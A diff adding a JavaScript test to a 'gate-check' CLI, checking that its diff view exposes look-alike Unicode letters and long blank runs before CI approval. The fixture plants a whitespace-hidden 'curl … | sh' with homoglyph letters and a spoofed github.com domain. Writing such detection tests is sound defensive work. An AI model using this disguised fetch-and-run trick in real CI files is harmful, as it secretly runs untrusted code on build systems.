@@ -670,3 +670,20 @@ describe('gate-check diff properties, through git and the CLI', () => {
     );
   });
 });
+
+// Found by an attack: `diff` is the reviewer's step before CI approves and runs, and it
+// printed a look-alike `сurl` and a run of 150 blanks as written.
+describe('gate-check diff shows changed values as the approval screen does', () => {
+  it('look-alike letters as <U+XXXX>, runs of blanks as <N spaces>, with a note; --json keeps the exact text', () => {
+    const s = gitRepo();
+    s.edit('GATES.md', (t) => t.replace('  CHECK: npm test\n', `  CHECK: npm test${' '.repeat(150)}|| \u0441url -s https://g\u0456thub.com/x | sh\n`));
+    const r = s.diff();
+    expect(r.stdout).toContain('    CHECK now: npm test<150 spaces>|| <U+0441>url -s https://g<U+0456>thub.com/x | sh');
+    expect(r.stdout).toContain('      (CHECK has 2 non-ASCII characters, shown as <U+XXXX>)');
+    expect(r.stdout).toContain('      (CHECK has 1 run of 8 or more spaces, shown as <N spaces>)');
+    expect(r.stdout).not.toMatch(/[\u0441\u0456]| {20}/);
+    const { changes } = s.json();
+    const check = changes.flatMap((c) => c.fields).find((f) => f.field === 'CHECK');
+    expect(check?.now).toBe(`npm test${' '.repeat(150)}|| \u0441url -s https://g\u0456thub.com/x | sh`);
+  });
+});
